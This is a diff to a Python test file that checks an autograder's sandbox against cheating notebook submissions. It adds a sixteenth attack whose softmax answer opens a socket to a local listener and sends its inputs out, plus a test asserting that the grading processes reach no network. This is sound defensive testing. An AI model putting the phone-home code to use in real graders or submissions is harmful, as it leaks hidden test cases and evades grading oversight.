@@ -6,7 +6,7 @@ virtual environment (whose site-packages reaches this one's packages through a .
 line); the grader runs from them, as a teacher would run it from a clone. The attacks know
 every path (the checkout, site-packages, the CSV, the reports): the worst case.
 
-The student: one notebook per attack, graded in ONE call beside honest and blank
+The student: one notebook per attack (sixteen), graded in ONE call beside honest and blank
 submissions (before and after them, two at a time). Every attack scores 0 on the exercise
 it targets, no other submission's score changes, the checkout and the environment are
 byte for byte unchanged afterwards (sha256), the CSV is written once by the grader and not
@@ -115,8 +115,9 @@ def uses(helper):
     return "def softmax(z):\n    return " + helper + "\n"
 
 
-def attacks(t):
-    """{file name: (target exercise, cells)}: each attack, with the paths it knows."""
+def attacks(t, port=0):
+    """{file name: (target exercise, cells)}: each attack, with the paths it knows (and the
+    port of a listener on the machine's loopback interface)."""
     checkout, site, csv_path = t["checkout"], t["site"], t["csv"]
     losses = checkout / "cnnlib" / "losses.py"
     return {
@@ -230,6 +231,13 @@ def attacks(t):
             "            try:\n                return np.exp(f(z))\n"
             "            except Exception:\n                pass\n"
             "    return z\n"), uses("found(z)")]),
+        # 16. phoning home from the grading process (to fetch a solution, or to report the
+        #     hidden cases): the answer connects to a listener on the machine
+        "03_phone_home.ipynb": ("softmax", [HEAD + "import socket\n", (
+            "def softmax(z):\n    try:\n"
+            f"        s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
+            "        s.sendall(repr(np.asarray(z).tolist()).encode())\n"
+            "    except OSError:\n        pass\n    return z\n")]),
         # 14. a non-forbidden equivalent of another exercise: the batch-last im2col path
         "01_batch_last.ipynb": ("conv2d_loop", [HEAD + (
             "from cnnlib.im2col import im2col_batch_last\n"),
@@ -255,8 +263,25 @@ def test_every_cheat_scores_zero_and_changes_nothing_else(teacher, tmp_path):
     subs.mkdir()
     honest = [notebook(subs / f"03_honest_{k}.ipynb", HEAD, RIGHT) for k in "ab"]
     blank = [notebook(subs / f"03_blank_{k}.ipynb", HEAD, BLANK) for k in "ab"]
+    import socket
+    import threading
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(16)
+    listener.settimeout(0.5)
+    heard, stop = [], threading.Event()
+
+    def listen():
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+                heard.append(conn.recv(100))
+                conn.close()
+            except OSError:
+                pass
+    threading.Thread(target=listen, daemon=True).start()
     cheats = {}
-    for name, (target, cells) in attacks(t).items():
+    for name, (target, cells) in attacks(t, listener.getsockname()[1]).items():
         cheats[name] = (target, notebook(subs / name, *cells, exercise=target))
     paths = [honest[0], blank[0]] + [p for _, p in cheats.values()] + [honest[1], blank[1]]
     protected = [t["checkout"], t["site"]] + [Path(d) for d in site_dirs()
@@ -278,6 +303,9 @@ def test_every_cheat_scores_zero_and_changes_nothing_else(teacher, tmp_path):
     # nothing outlives the grading: the daemon's CSV rewrite never comes
     time.sleep(12)
     assert t["csv"].read_text() == text
+    stop.set()
+    listener.close()
+    assert heard == []                  # the grading processes have no network
     assert not [p for p, (_, uid, _) in supervise.processes().items() if uid >= 64000]
     # the checkout and the environments are byte for byte (and stat for stat) unchanged
     assert sha256_tree(*protected[:2]) == before
